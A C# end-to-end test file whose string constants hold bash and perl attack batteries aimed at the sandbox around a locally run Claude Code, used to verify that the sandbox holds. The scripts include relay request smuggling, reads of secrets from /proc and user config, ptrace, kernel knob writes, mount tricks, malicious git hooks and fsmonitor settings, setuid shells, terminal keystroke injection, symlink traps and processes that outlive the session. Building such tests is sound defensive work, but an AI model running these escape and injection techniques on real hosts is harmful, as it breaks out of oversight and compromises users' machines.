namespace LocalClaude.E2E.Tests.Attacks;

/// <summary>
/// The attacker's code: bash (with perl for raw syscalls, ioctls and sockets) that runs where Claude Code would run.
/// Every attack writes what it saw to <c>WORK/.attack/NAME.txt</c> ("key=value" lines) and tags every byte it
/// sends and every file it tries to make with the run's mark, so host-side evidence names the attack.
/// </summary>
internal static class AttackScripts
{
    /// <summary>Helpers every script starts with (after the generated header of host facts).</summary>
    public const string Prelude = """
        WORK="$PWD"
        R="$WORK/.attack"
        mkdir -p "$R"
        exec 2>>"$R/stderr.log"
        note() { printf '%s\n' "$2" >> "$R/$1.txt"; }
        # Waits until the host observed this moment (it writes cp-NAME.done), at most 20 s.
        checkpoint() { : > "$R/cp-$1"; for _ in $(seq 1 200); do [ -e "$R/cp-$1.done" ] && return 0; sleep 0.1; done; note checkpoints "timeout=$1"; }
        PORT="${ANTHROPIC_BASE_URL##*:}"; PORT="${PORT%%/*}"
        # Where the sandbox put the --claude FILE (this script): its folder must hold nothing else of the host's.
        SELF_DIR="$(dirname "$0")"
        ls -a "$SELF_DIR" > "$R/self-dir.out" 2>&1
        grep -qs "$CANARY" "$SELF_DIR/lc-attack-$MARK-canary" && note self-dir "read=$SELF_DIR/lc-attack-$MARK-canary"
        cat > "$R/raw.pl" <<'PERL'
        # raw.pl HOST PORT DATA [WAIT]: sends DATA (\r \n escapes) and prints what comes back within WAIT seconds.
        use strict; use warnings; use IO::Socket::IP;
        my ($host, $port, $data, $wait) = @ARGV; $wait //= 3;
        $data =~ s/\\r/\r/g; $data =~ s/\\n/\n/g; $data =~ s/\\t/\t/g;
        my $s = IO::Socket::IP->new(PeerHost => $host, PeerPort => $port, Timeout => 3) or do { print "connect-failed: $@\n"; exit 3 };
        print $s $data; my $buf = ''; my $rin = ''; vec($rin, fileno($s), 1) = 1; my $end = time + $wait;
        while (time < $end) { my $n = select(my $r = $rin, undef, undef, 0.3); next unless $n > 0; my $got = sysread($s, my $chunk, 65536); last unless $got; $buf .= $chunk; }
        print $buf;
        PERL
        raw() { timeout 10 perl "$R/raw.pl" "$@"; }
        # The allowed path: a real POST /v1/messages to the model, a file in the work dir, git in the work dir.
        allowed() {
          local name="$1"
          local code
          code=$(curl -sS -m 120 -o "$R/$name-body.json" -w '%{http_code}' -X POST "$ANTHROPIC_BASE_URL/v1/messages" \
            -H 'content-type: application/json' -H "authorization: Bearer $ANTHROPIC_AUTH_TOKEN" -H "x-api-key: $ANTHROPIC_AUTH_TOKEN" \
            -H 'anthropic-version: 2023-06-01' \
            --data "{\"model\":\"$ANTHROPIC_MODEL\",\"max_tokens\":4,\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}")
          note "$name" "post=$code"
          grep -q '"type" *: *"message"' "$R/$name-body.json" && note "$name" "message=yes"
          echo "written inside" > "$WORK/written-inside-$name.txt" && note "$name" "write=ok"
        }
        """;

    /// <summary>One headless launch: every attack that needs neither a terminal nor a launch of its own.</summary>
    public const string HeadlessBattery = """
        allowed allowed-before

        # --- a: the relay forwards a request target that names another host:port (//host:port/...) ---
        raw 127.0.0.1 "$PORT" "GET //127.0.0.1:$DECOY4/lc-a-ip HTTP/1.1\r\nHost: 127.0.0.1:$PORT\r\nConnection: close\r\n\r\n" > "$R/relay-a-ip.out" &
        raw 127.0.0.1 "$PORT" "GET //localhost:$DECOY4/lc-a-localhost HTTP/1.1\r\nHost: 127.0.0.1:$PORT\r\nConnection: close\r\n\r\n" > "$R/relay-a-localhost.out" &
        raw 127.0.0.1 "$PORT" "GET //[::1]:$DECOY6/lc-a-ipv6 HTTP/1.1\r\nHost: 127.0.0.1:$PORT\r\nConnection: close\r\n\r\n" > "$R/relay-a-ipv6.out" &
        raw 127.0.0.1 "$PORT" "GET //user@127.0.0.1:$DECOY4/lc-a-userinfo HTTP/1.1\r\nHost: 127.0.0.1:$PORT\r\nConnection: close\r\n\r\n" > "$R/relay-a-userinfo.out" &
        raw 127.0.0.1 "$PORT" "POST //127.0.0.1:$DECOY4/lc-a-post HTTP/1.1\r\nHost: 127.0.0.1:$PORT\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}" > "$R/relay-a-post.out" &
        # Own: other spellings of a target that names another place.
        raw 127.0.0.1 "$PORT" "GET http://127.0.0.1:$DECOY4/lc-absolute HTTP/1.1\r\nHost: 127.0.0.1:$DECOY4\r\nConnection: close\r\n\r\n" > "$R/relay-absolute.out" &
        raw 127.0.0.1 "$PORT" "GET http://[::1]:$DECOY6/lc-absolute6 HTTP/1.0\r\n\r\n" > "$R/relay-absolute6.out" &
        raw 127.0.0.1 "$PORT" "CONNECT 127.0.0.1:$DECOY4 HTTP/1.1\r\nHost: 127.0.0.1:$DECOY4\r\n\r\nGET /lc-connect HTTP/1.1\r\nHost: x\r\n\r\n" > "$R/relay-connect.out" &
        raw 127.0.0.1 "$PORT" "GET /lc-host HTTP/1.1\r\nHost: 127.0.0.1:$DECOY4\r\nConnection: close\r\n\r\n" > "$R/relay-host.out" &
        raw 127.0.0.1 "$PORT" "GET /lc-xfh HTTP/1.1\r\nHost: 127.0.0.1:$PORT\r\nX-Forwarded-Host: 127.0.0.1:$DECOY4\r\nForwarded: host=127.0.0.1:$DECOY4\r\nX-Forwarded-Port: $DECOY4\r\nConnection: close\r\n\r\n" > "$R/relay-xfh.out" &
        raw 127.0.0.1 "$PORT" "GET ///127.0.0.1:$DECOY4/lc-triple HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n" > "$R/relay-triple.out" &
        raw 127.0.0.1 "$PORT" "GET /\\127.0.0.1:$DECOY4/lc-backslash HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n" > "$R/relay-backslash.out" &
        raw 127.0.0.1 "$PORT" "GET %2F%2F127.0.0.1:$DECOY4/lc-encoded HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n" > "$R/relay-encoded.out" &
        raw 127.0.0.1 "$PORT" "GET\t//127.0.0.1:$DECOY4/lc-tab HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n" > "$R/relay-tab.out" &
        raw 127.0.0.1 "$PORT" "get //127.0.0.1:$DECOY4/lc-lower HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n" > "$R/relay-lower.out" &
        raw 127.0.0.1 "$PORT" "GET http:127.0.0.1:$DECOY4/lc-schemecolon HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n" > "$R/relay-schemecolon.out" &
        raw 127.0.0.1 "$PORT" "GET //127.0.0.1:$DECOYANY/lc-any HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n" > "$R/relay-any.out" &
        raw 127.0.0.1 "$PORT" "GET //127.0.0.2:$DECOYANY/lc-127002 HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n" > "$R/relay-127002.out" &
        raw 127.0.0.1 "$PORT" "GET //2130706433:$DECOY4/lc-decimal HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n" > "$R/relay-decimal.out" &
        # Own: smuggling and pipelining, where a relay checks only the first request of a connection.
        body='0\r\n\r\nGET //127.0.0.1:'"$DECOY4"'/lc-clte HTTP/1.1\r\nHost: h\r\n\r\n'
        raw 127.0.0.1 "$PORT" "POST /v1/messages HTTP/1.1\r\nHost: h\r\nContent-Length: 60\r\nTransfer-Encoding: chunked\r\n\r\n$body" 4 > "$R/relay-clte.out" &
        raw 127.0.0.1 "$PORT" "POST /v1/messages HTTP/1.1\r\nHost: h\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n3c\r\nGET //127.0.0.1:$DECOY4/lc-tecl HTTP/1.1\r\nHost: h\r\nContent-Length: 4\r\n\r\n\r\n0\r\n\r\n" 4 > "$R/relay-tecl.out" &
        raw 127.0.0.1 "$PORT" "GET /health HTTP/1.1\r\nHost: h\r\n\r\nGET //127.0.0.1:$DECOY4/lc-pipelined HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n" 4 > "$R/relay-pipelined.out" &
        raw 127.0.0.1 "$PORT" "GET /health HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\nGET //127.0.0.1:$DECOY4/lc-dupte HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n" 4 > "$R/relay-dupte.out" &

        # --- own: a huge request through the relay (which may keep a copy to resend) ---
        checkpoint rss-baseline
        perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1:$ARGV[0]") or do { print "connect-failed\n"; exit 1 }; $s->blocking(0);
          my $n = 768 << 20; my $buf = "POST /v1/messages HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\nContent-Length: $n\r\n\r\n";
          my ($sent, $chunk, $end) = (0, " " x (1 << 20), time + 15);
          while ($sent < $n && time < $end) { $buf .= $chunk if length($buf) < (1 << 20); my $w = syswrite($s, $buf); if (defined $w && $w > 0) { substr($buf, 0, $w) = ""; $sent += $w } elsif (!defined $w && !$!{EAGAIN}) { last } else { select(undef, undef, undef, 0.01) } }
          print "sent_mib=", int($sent / (1 << 20)), "\n"; open(my $f, ">", "$ARGV[1]/cp-bigbody"); close $f;
          for (1 .. 200) { last if -e "$ARGV[1]/cp-bigbody.done"; select(undef, undef, undef, 0.1) }' "$PORT" "$R" > "$R/bigbody.out"

        # --- own: other loopback addresses, ports and protocols, straight from inside ---
        raw 127.0.0.1 "$DECOY4" "lc-direct4\n" 1 > "$R/direct4.out" &
        raw localhost "$DECOY4" "lc-directlocalhost\n" 1 > "$R/directlocalhost.out" &
        raw 127.0.0.2 "$DECOYANY" "lc-direct127002\n" 1 > "$R/direct127002.out" &
        raw 0.0.0.0 "$DECOYANY" "lc-direct0000\n" 1 > "$R/direct0000.out" &
        raw ::1 "$DECOY6" "lc-direct6\n" 1 > "$R/direct6.out" &
        raw ::ffff:127.0.0.1 "$DECOY4" "lc-directmapped\n" 1 > "$R/directmapped.out" &
        perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "127.0.0.1:$ARGV[0]", Proto => "udp") or exit 1; print $s "lc-udp\n" for 1..3' "$UDP"
        # Abstract unix sockets live in the network namespace: a shared one reaches host services.
        perl -MSocket -e 'socket(my $s, AF_UNIX, SOCK_STREAM, 0) or exit 2; connect($s, pack_sockaddr_un("\0" . $ARGV[0])) or exit 1; syswrite $s, "lc-abstract\n"; print "connected\n"' "$ABSTRACT" > "$R/abstract.out"
        perl -MSocket -e 'socket(my $s, AF_UNIX, SOCK_STREAM, 0) or exit 2; connect($s, pack_sockaddr_un($ARGV[0])) or exit 1; syswrite $s, "lc-unixpath\n"; print "connected\n"' "$UNIXPATH" > "$R/unixpath.out"
        for s in $(find / -xdev -type s 2>/dev/null | head -50); do
          perl -MSocket -e 'socket(my $s, AF_UNIX, SOCK_STREAM, 0) or exit 2; connect($s, pack_sockaddr_un($ARGV[0])) or exit 1' "$s" && note unix-sockets "reachable=$s"
        done
        cat /proc/net/tcp /proc/net/tcp6 > "$R/proc-net-tcp.out" 2>/dev/null
        ls /sys/class/net > "$R/sys-class-net.out" 2>/dev/null

        wait

        # --- own: writes outside the work dir and the sandbox HOME ---
        for d in "$SCRATCH" "$OUTSIDE" /tmp /var/tmp /dev/shm "$USERHOME" /etc /usr/local /opt /srv /run /var "$REPO" "$REPO/tools" "$CACHE" "$WORK/.." "$HOME/.." "$(dirname "$SCRIPT")"; do
          (echo x > "$d/lc-attack-$MARK-write") 2>/dev/null && note write-outside "wrote-inside-view=$d"
        done
        (echo "echo lc-attack-$MARK-script" >> "$SCRIPT") 2>/dev/null && note write-outside "appended-to-script"

        # --- own: reads of the user's config, project config in parent folders, the checkout, the cache ---
        for f in $CANARIES; do
          [ -r "$f" ] && grep -q "$CANARY" "$f" 2>/dev/null && note read-config "read=$f"
        done
        for f in "$USERHOME/.claude.json" "$USERHOME/.claude/settings.json" "$REPO/models.conf" "$REPO/tools/localclaude" "$CACHE"; do
          [ -e "$f" ] && note read-config "exists=$f"
        done

        # --- own: environment and /proc leaks of secrets and host paths ---
        env > "$R/env.out"
        for p in /proc/[0-9]*; do tr '\0' '\n' < "$p/environ"; tr '\0' ' ' < "$p/cmdline"; echo; done > "$R/proc-environ.out" 2>/dev/null
        ls -d /proc/[0-9]* | wc -l > "$R/proc-count.out"
        cat /proc/1/cmdline | tr '\0' ' ' > "$R/proc1.out"

        # --- own: host processes: visibility, signals, ptrace, /proc/PID/root ---
        [ -e "/proc/$VICTIM" ] && note host-procs "victim-visible"
        kill -0 "$TESTPID" 2>/dev/null && note host-procs "test-runner-signalable"
        kill -TERM "$VICTIM" 2>/dev/null && note host-procs "victim-signalled"
        perl -e 'my $r = syscall(101, 16, $ARGV[0], 0, 0); print "attach=$r errno=", $!+0, "\n"' "$VICTIM2" > "$R/ptrace.out"
        checkpoint ptrace
        perl -e 'syscall(101, 17, $ARGV[0], 0, 0)' "$VICTIM2"
        (echo x > "/proc/$VICTIM2/mem") 2>/dev/null && note ptrace "mem-written"
        for p in /proc/[0-9]*; do
          for f in $CANARIES; do grep -qs "$CANARY" "$p/root$f" && note proc-root "read=$p/root$f"; done
          grep -qs "$CANARY" "$p/cwd/lc-attack-$MARK-canary" && note proc-root "read=$p/cwd"
        done

        # --- own: inherited descriptors ---
        ls -l /proc/self/fd/ > "$R/fds.out" 2>&1
        for fd in $(ls /proc/$$/fd); do
          t="/proc/$$/fd/$fd"
          [ -d "$t" ] && note fds "dir=$fd:$(readlink "$t")" && find "$t/" "$t/.." "$t/../.." -maxdepth 3 -name "lc-attack-$MARK-canary*" 2>/dev/null | while read -r hit; do note fds "reached=$hit"; done
        done

        # --- also seen: the sandbox shares the launcher's process group ---
        kill -WINCH 0 2>/dev/null
        checkpoint pgrp

        # --- also seen: io_uring, AF_VSOCK, no seccomp; own: kernel keyring ---
        grep '^Seccomp:' /proc/self/status > "$R/seccomp.out"
        perl -e 'my $p = "\0" x 120; my $r = syscall(425, 4, $p); print "io_uring=$r errno=", $!+0, "\n"' > "$R/io-uring.out"
        perl -e 'if (socket(my $s, 40, 1, 0)) { print "vsock=open\n" } else { print "vsock=refused errno=", $!+0, "\n" }' > "$R/vsock.out"
        perl -e 'for my $ring (-4, -3, -5) { my $r = syscall(248, "user", "lc-attack-$ARGV[0]", "x", 1, $ring); print "add_key ring=$ring r=$r errno=", $!+0, "\n" }' "$MARK" > "$R/keyring.out"

        # --- own: /proc/sys knobs that make the host run a program (core dumps, module loading) ---
        for k in kernel/core_pattern kernel/modprobe kernel/hotplug; do
          [ -e "/proc/sys/$k" ] && (cat "/proc/sys/$k" > "/proc/sys/$k") 2>/dev/null && note proc-sys "writable=$k"
        done
        [ -e /sys/kernel/uevent_helper ] && (cat /sys/kernel/uevent_helper > /sys/kernel/uevent_helper) 2>/dev/null && note proc-sys "writable=uevent_helper"

        # --- own: mount tricks to uncover or unprotect host folders ---
        for m in "$USERHOME" /tmp /home "$HOME" "$(dirname "$SCRIPT")" "$REPO" /proc; do umount -l "$m" 2>/dev/null && note mounts "unmounted=$m"; done
        mount -o remount,rw,bind "$(dirname "$SCRIPT")" 2>/dev/null && note mounts "remounted-rw"
        unshare -Urm sh -c 'umount -l "$1" 2>/dev/null; mount -o remount,rw,bind "$2" 2>/dev/null; echo "echo lc-attack-$3-unshare" >> "$4" && echo appended' sh "$USERHOME" "$(dirname "$SCRIPT")" "$MARK" "$SCRIPT" > "$R/unshare.out" 2>&1
        for f in $CANARIES; do grep -qs "$CANARY" "$f" && note mounts "read-after=$f"; done

        # --- e: git config and hooks the user's next git command on the host would run (paths relative: the work
        # dir has another path on the host) ---
        # Allowed first: git works inside.
        echo "changed inside" >> "$WORK/README.txt"
        git add README.txt written-inside-allowed-before.txt && git -c user.email=a@b.c -c user.name=inside commit -q -m "commit inside" && note git "commit-inside=ok"
        git config core.fsmonitor "touch $OUTSIDE/lc-attack-$MARK-fsmonitor; echo"
        git config core.hooksPath .lc-hooks
        git config filter.lcx.clean "sh -c 'touch $OUTSIDE/lc-attack-$MARK-filter; cat'"
        git config filter.lcx.smudge "sh -c 'touch $OUTSIDE/lc-attack-$MARK-filter; cat'"
        git config diff.external .lc-hooks/ext
        git config core.pager "touch $OUTSIDE/lc-attack-$MARK-pager; cat"
        git config core.editor "touch $OUTSIDE/lc-attack-$MARK-editor; true"
        git config include.path ../.lc-gitconfig
        printf '[core]\n\tfsmonitor = touch %s/lc-attack-%s-include; echo\n' "$OUTSIDE" "$MARK" > "$WORK/.lc-gitconfig"
        echo '* filter=lcx' > "$WORK/.gitattributes"
        mkdir -p "$WORK/.lc-hooks"
        for h in pre-commit post-commit post-checkout pre-auto-gc reference-transaction post-index-change prepare-commit-msg commit-msg post-rewrite; do
          printf '#!/bin/sh\ntouch %s/lc-attack-%s-hook\n' "$OUTSIDE" "$MARK" | tee "$WORK/.git/hooks/$h" > "$WORK/.lc-hooks/$h"
          chmod +x "$WORK/.git/hooks/$h" "$WORK/.lc-hooks/$h"
        done
        printf '#!/bin/sh\ntouch %s/lc-attack-%s-diffext\n' "$OUTSIDE" "$MARK" > "$WORK/.lc-hooks/ext"; chmod +x "$WORK/.lc-hooks/ext"
        # The submodule's git folder has a config and hooks of its own; a gitfile, commondir, a linked worktree's
        # commondir or alternates point git at a folder written here.
        printf '[core]\n\tfsmonitor = touch %s/lc-attack-%s-submodule; echo\n' "$OUTSIDE" "$MARK" >> "$WORK/.git/modules/sub/config" 2>/dev/null && note git "wrote=modules-config"
        printf '#!/bin/sh\ntouch %s/lc-attack-%s-submodule\n' "$OUTSIDE" "$MARK" > "$WORK/.git/modules/sub/hooks/post-checkout" 2>/dev/null && note git "wrote=modules-hook"
        mkdir -p "$WORK/.lc-evil-git" && cp -r "$WORK/.git/modules/sub/." "$WORK/.lc-evil-git/" 2>/dev/null
        printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch %s/lc-attack-%s-submodule; echo\n' "$OUTSIDE" "$MARK" > "$WORK/.lc-evil-git/config"
        printf 'gitdir: ../.lc-evil-git\n' > "$WORK/sub/.git" 2>/dev/null && note git "wrote=gitfile"
        mkdir -p "$WORK/.git/worktrees/lcw" 2>/dev/null && printf '%s\n' "$WORK/.lc-evil-git" > "$WORK/.git/worktrees/lcw/commondir" 2>/dev/null && note git "wrote=worktrees"
        printf '../.lc-evil-git\n' > "$WORK/.git/commondir" 2>/dev/null && note git "wrote=commondir"
        printf '%s/objects\n' "$OUTSIDE" > "$WORK/.git/objects/info/alternates" 2>/dev/null && note git "wrote=alternates"
        echo "changed again inside" >> "$WORK/README.txt"

        # --- own: a setuid file made inside, for the host's users to run ---
        cp /bin/sh "$WORK/lc-suid" && chmod 4755 "$WORK/lc-suid" && note setuid "made"
        cp /bin/sh "$WORK/lc-sgid" && chmod 2755 "$WORK/lc-sgid"
        mkdir -p "$HOME/bin" && cp /bin/sh "$HOME/bin/lc-suid" && chmod 4755 "$HOME/bin/lc-suid"
        mknod "$WORK/lc-dev" b 8 0 2>/dev/null && note setuid "mknod"

        # --- own: hardlinks to files the host owns ---
        for f in "$SCRIPT" /etc/passwd /usr/bin/env; do ln "$f" "$WORK/lc-hardlink-$(basename "$f")" 2>/dev/null && note hardlinks "linked=$f"; done

        # --- own: a process that outlives the launch and acts after it ---
        setsid -f sh -c 'sleep 4; echo late > "$1/lc-late-$2"; touch "$3/lc-attack-$2-late"' lc-late-"$MARK" "$WORK" "$MARK" "$OUTSIDE" < /dev/null > /dev/null 2>&1
        env -i /usr/bin/setsid -f /bin/sh -c 'sleep 4; echo late > "$1/lc-late3-$2"' lc-late-"$MARK" "$WORK" "$MARK" < /dev/null > /dev/null 2>&1
        (trap '' HUP TERM; sleep 4; echo late > "$WORK/lc-late2-$MARK") < /dev/null > /dev/null 2>&1 &
        disown

        allowed allowed-after
        note done "all"
        exit 0
        """;

    /// <summary>
    /// One interactive launch (typed into the user's shell in a terminal): keystroke injection into that terminal
    /// (escape b and its variants), other terminals, the terminal's tmux server, escape sequences.
    /// </summary>
    public const string InteractiveBattery = """
        allowed allowed-interactive
        cat > "$R/sti.pl" <<'PERL'
        # sti.pl PATH REQUEST TEXT: queues TEXT into the terminal at PATH ("-" = fd 0) with ioctl REQUEST, one byte a call.
        my ($path, $req, $text) = @ARGV; $text =~ s/\\n/\n/g; my $fh;
        if ($path eq '-') { open($fh, '<&=', 0) or do { print "open-failed $!\n"; exit 1 } }
        else { open($fh, '+<', $path) or do { print "open-failed $!\n"; exit 1 } }
        my ($ok, $err) = (0, '');
        for my $c (split //, $text) { my $r = syscall(16, fileno($fh), hex($req), $c); if ($r == 0) { $ok++ } else { $err = $! + 0; last } }
        print "ok=$ok err=$err\n";
        PERL
        sti() { timeout 10 perl "$R/sti.pl" "$@"; }
        ls -l /proc/self/fd/0 /dev/tty > "$R/tty.out" 2>&1
        sti - 5412 "touch $OUTSIDE/lc-attack-$MARK-stistdin\n" > "$R/sti-stdin.out"
        sti /dev/tty 5412 "touch $OUTSIDE/lc-attack-$MARK-stitty\n" > "$R/sti-tty.out"
        sti - FFFFFFFF00005412 "touch $OUTSIDE/lc-attack-$MARK-stihigh\n" > "$R/sti-high.out"
        sti /dev/tty FFFFFFFF00005412 "touch $OUTSIDE/lc-attack-$MARK-stihigh\n" >> "$R/sti-high.out"
        sti - 80005412 "touch $OUTSIDE/lc-attack-$MARK-stihigh\n" >> "$R/sti-high.out"
        # TIOCLINUX 3 (TIOCL_PASTESEL) pastes the console selection as input, 2 sets it.
        perl -e 'for my $sub (2, 3) { my $r = syscall(16, 0, 0x541C, chr($sub) . ("\0" x 10)); print "sub=$sub r=$r errno=", $! + 0, "\n" }' > "$R/tioclinux.out"
        perl -e 'my $b = chr(3); my $r = syscall(16, 0, 0xFFFFFFFF0000541C, $b); print "high r=$r errno=", $! + 0, "\n"' >> "$R/tioclinux.out"
        # Another terminal of the user's: write to it and queue input into it.
        (printf 'lc-attack-%s-otherwrite\n' "$MARK" > "$OTHERTTY") 2>/dev/null && note other-tty "written"
        sti "$OTHERTTY" 5412 "lc-attack-$MARK-othersti\n" > "$R/sti-other.out"
        # The terminal's own tmux server (its socket path, or TMUX if it leaked in).
        for sock in "$TMUXSOCK" "${TMUX%%,*}"; do
          [ -n "$sock" ] || continue
          tmux -S "$sock" run-shell "touch $OUTSIDE/lc-attack-$MARK-tmux" 2>/dev/null && note tmux "run-shell=$sock"
          tmux -S "$sock" send-keys "touch $OUTSIDE/lc-attack-$MARK-tmux" Enter 2>/dev/null && note tmux "send-keys=$sock"
        done
        # Escape sequences: a title made of a command, then a request to report it back as input (xterm CSI 21 t);
        # DECRQSS; an OSC 52 clipboard write.
        printf '\033]0;touch %s/lc-attack-%s-title\007\033[21t' "$OUTSIDE" "$MARK"
        printf '\033P$q"p\033\\'
        printf '\033]52;c;%s\007' "$(printf 'lc-attack-%s-clip' "$MARK" | base64 -w0)"
        printf '\033]2;lc-attack-%s-wintitle\007' "$MARK"
        # Injection after the launch ends: a background process keeps fd 0, another leaves the session.
        (sleep 3; perl "$R/sti.pl" - 5412 "touch $OUTSIDE/lc-attack-$MARK-delayed\n") < /dev/tty > /dev/null 2>&1 &
        disown
        setsid -f sh -c 'sleep 3; perl "$1" - 5412 "touch $2/lc-attack-$3-delayed\n"' lc-delayed-"$MARK" "$R/sti.pl" "$OUTSIDE" "$MARK" > /dev/null 2>&1
        note done "all"
        exit 0
        """;

    /// <summary>
    /// Links the launcher (or the next launch) may follow when it prepares HOME and the work dir, hands them back or
    /// moves planted hooks and rc files aside: every one points at a host victim owned by another user.
    /// </summary>
    public const string LinkTraps = """
        allowed allowed-before
        for n in .claude.json .claude.json.backup .bashrc .profile .gitconfig .zshrc; do rm -rf "$HOME/$n"; ln -s "$OUTSIDE/victim-file" "$HOME/$n" && note traps "home-file=$n"; done
        for n in .claude .config .cache .local .npm .ssh; do rm -rf "$HOME/$n"; ln -s "$OUTSIDE/victim-dir" "$HOME/$n" && note traps "home-dir=$n"; done
        ln -s "$OUTSIDE/victim-file" "$WORK/lc-victim-link"
        ln -s "$OUTSIDE/victim-dir" "$WORK/lc-victim-dir"
        (rm -rf "$WORK/.git/hooks" && ln -s "$OUTSIDE/victim-dir/hooks" "$WORK/.git/hooks") 2>/dev/null && note traps "git-hooks-link"
        (rm -f "$WORK/.git/config" && ln -s "$OUTSIDE/victim-file" "$WORK/.git/config") 2>/dev/null && note traps "git-config-link"
        ln -s "$OUTSIDE/victim-dir" "$WORK/.envrc" 2>/dev/null
        note done all
        exit 0
        """;

    /// <summary>The follow-up launch on the same sandbox HOME: only the allowed path.</summary>
    public const string FollowUp = """
        allowed followup
        note done "all"
        exit 0
        """;
}
